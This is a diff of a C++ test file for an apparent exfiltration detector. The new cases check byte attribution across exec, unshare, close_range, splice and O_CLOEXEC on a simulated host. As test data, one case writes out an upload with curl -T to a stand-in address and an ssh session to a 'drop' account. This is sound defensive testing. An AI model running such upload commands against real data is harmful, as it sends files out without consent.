@@ -150,10 +150,13 @@ TEST_CASE("what a process connected last is not the next program's") {
 
 TEST_CASE("a connection of the program before is not what an exec's next one gives away") {
   CronHost log;
-  const bool execs = GENERATE(true, false);
+  const int execs = GENERATE(0, 1, 2);
   const int pid = curl(log);
-  if (execs) {
+  if (execs == 1) {
     log.exec(pid, "/usr/bin/next", {"next"});
+  } else if (execs == 2) {  // its execve was lost: the next socket tells
+    log.who(pid).exe = "/usr/bin/next";
+    log.socket(pid, 8, 1, 1);
   }
   log.call(pid, "sendmsg", 1, {9, 0x7f, 0});
   log.done(pid);
@@ -163,7 +166,60 @@ TEST_CASE("a connection of the program before is not what an exec's next one giv
       is_noted = is_noted || note.find("may have been passed") != std::string::npos;
     }
   }
-  CHECK(is_noted != execs);
+  CHECK(is_noted == (execs == 0));
+}
+
+TEST_CASE("unshare and close_range take a table of one's own") {
+  constexpr std::uint64_t kCloneFiles = 0x400;
+  CronHost log;
+  const int pid = curl(log);
+  log.fork(pid, pid + 1, kCloneFiles | 17);
+  log.write(pid + 1, 3, 5000);
+  bool own = true;
+  SECTION("unshare(CLONE_FILES)") {
+    log.call(pid + 1, "unshare", 0, {kCloneFiles});
+    log.close(pid + 1, 3);
+  }
+  SECTION("unshare of something else") {
+    log.call(pid + 1, "unshare", 0, {0x20000});
+    log.close(pid + 1, 3);
+    own = false;
+  }
+  SECTION("close_range(CLOSE_RANGE_UNSHARE)") {
+    log.call(pid + 1, "close_range", 0, {3, 0xffffffffU, 2});
+  }
+  SECTION("close_range of the shared table") {
+    log.call(pid + 1, "close_range", 0, {3, 0xffffffffU, 0});
+    own = false;
+  }
+  log.write(pid, 3, 90'000);
+  CHECK(sent_to(log, kDrop) == (own ? 95'000U : 5000U));
+}
+
+TEST_CASE("splice: what comes out of a connection came in") {
+  CronHost log;
+  const int pid = curl(log);
+  log.write(pid, 3, 50'000);
+  log.read(pid, 3, 1);
+  log.call(pid, "splice", 700, {3, 0, 9, 0});
+  log.done(pid);
+  CHECK(one(log).bytes_in == 701U);
+  CHECK(one(log).bytes_out == 50'000U);
+}
+
+TEST_CASE("openat: O_CLOEXEC frees the number for what an exec leaves behind") {
+  const bool flag = GENERATE(true, false);
+  CronHost log;
+  const int pid = log.tool("/usr/bin/curl", {"curl", "-T", "f", "https://203.0.113.9/"});
+  log.call(pid, "openat", 3, {0xffffff9cU, 0x7f, flag ? 0x80000U : 0U});
+  log.exec(pid, "/usr/bin/ssh", {"ssh", "drop@203.0.113.9"});
+  log.write(pid, 3, 200 * kMega);
+  std::uint64_t bytes = 0;
+  for (const transfer::Fact& fact : tell(log)) {
+    bytes += fact.bytes_out.value_or(0);
+  }
+  bytes += tell_host(log.text()).book->unattributed().total();
+  CHECK((bytes >= 200U * kMega) == flag);
 }
 
 }  // namespace auexfil::test
